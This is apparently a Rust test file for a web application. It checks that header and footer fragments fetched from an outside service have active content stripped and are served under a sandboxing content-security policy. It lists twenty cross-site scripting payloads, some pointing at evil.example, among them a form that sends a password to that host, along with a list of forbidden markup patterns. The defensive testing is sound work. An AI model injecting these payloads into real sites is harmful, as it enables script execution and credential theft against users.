//! The content of header and footer: markup is kept, active content removed.

use super::{HEADER, use_service};
use crate::prelude::*;
use crate::wire::service::{Behaviour, Service};

on_sqlite!(hostile_markup_does_not_run);

const HOSTILE_MARKUP: [&str; 20] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=password><button formaction=//evil.example>x</form>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
];

/// Markup that must not be in a fragment.
const ACTIVE_CONTENT: [&str; 16] = [
    "<script", "<svg", "<math", "<iframe", "<object", "<embed", "<form", "<input", "<base",
    "<meta", "<link", "<template", "href=\"javascript", "href=\" javascript", "formaction=",
    " style=",
];

// security: HD-4
async fn hostile_markup_does_not_run(db: Database) {
    let service = Service::start(Behaviour::Closes).await;
    let site = db.site_with(use_service(&service)).await;
    let browser = site.browser();
    for hostile in HOSTILE_MARKUP {
        let html =
            format!("<header class=\"top\"><a href=\"/episodes\">Episodes</a>{hostile}</header>");
        service.set_behaviour(Behaviour::html(&html));
        // After two days, a cached fragment is too old to be shown.
        site.advance("2d");
        let response = assert_status!(browser.get(HEADER), 200);
        let text = response.text().to_lowercase();
        assert!(
            text.starts_with("<header class=\"top\"><a href=\"/episodes\""),
            "{text}"
        );
        for runs in ACTIVE_CONTENT {
            assert!(!text.contains(runs), "{hostile} left {runs} in {text}");
        }
        let handlers = text.split('<').filter(|tag| {
            let tag = tag.split('>').next().unwrap_or_default();
            tag.contains(" onerror") || tag.contains(" onload")
        });
        assert_eq!(handlers.count(), 0, "{hostile} left a handler in {text}");
        // Opened as a document of its own, a fragment runs no script either.
        let policy = response.header("content-security-policy").unwrap();
        assert!(policy.contains("sandbox") && policy.contains("default-src 'none'"));
    }
}
